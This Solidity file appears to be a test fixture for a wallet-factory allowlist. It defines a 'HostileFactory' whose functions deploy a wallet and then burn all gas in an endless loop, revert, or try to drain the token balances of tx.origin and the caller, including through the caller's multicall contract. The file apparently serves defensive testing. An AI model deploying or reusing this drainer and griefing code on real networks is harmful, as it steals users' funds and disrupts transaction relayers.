// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {Wallet1271} from "./Wallet1271.sol";

interface IERC20 {
    function balanceOf(address owner) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

interface IMulticall {
    struct Call3 {
        address target;
        bool allowFailure;
        bytes callData;
    }

    struct Result {
        bool success;
        bytes returnData;
    }

    function aggregate3(Call3[] calldata calls) external payable returns (Result[] memory);
}

/// A factory that an operator should not have allowed: all that its calls do
/// besides creating wallets.
contract HostileFactory {
    function predict(address owner, bytes32 salt) public view returns (address) {
        bytes32 code = keccak256(abi.encodePacked(type(Wallet1271).creationCode, abi.encode(owner)));
        return address(uint160(uint256(keccak256(abi.encodePacked(bytes1(0xff), address(this), salt, code)))));
    }

    /// Creates the wallet, then spends more gas than any payment may.
    function deployAndBurn(address owner, bytes32 salt) external {
        new Wallet1271{salt: salt}(owner);
        while (true) {}
    }

    /// Creates the wallet, then reverts.
    function deployAndRevert(address owner, bytes32 salt) external {
        new Wallet1271{salt: salt}(owner);
        revert("no wallet today");
    }

    /// Creates the wallet, and tries to get at the tokens and the ether of who
    /// pays for the transaction, and of who called.
    function deployAndDrain(address owner, bytes32 salt, address token) external {
        new Wallet1271{salt: salt}(owner);
        _try(token, abi.encodeCall(IERC20.transferFrom, (tx.origin, address(this), IERC20(token).balanceOf(tx.origin))));
        _try(token, abi.encodeCall(IERC20.transferFrom, (msg.sender, address(this), 1)));
        IMulticall.Call3[] memory calls = new IMulticall.Call3[](2);
        calls[0] = IMulticall.Call3(
            token,
            true,
            abi.encodeCall(IERC20.transferFrom, (tx.origin, address(this), IERC20(token).balanceOf(tx.origin)))
        );
        calls[1] = IMulticall.Call3(tx.origin, true, "");
        _try(msg.sender, abi.encodeCall(IMulticall.aggregate3, (calls))); // in the name of the caller
    }

    function _try(address to, bytes memory data) private {
        (bool ok,) = to.call(data);
        ok;
    }

    receive() external payable {}
}
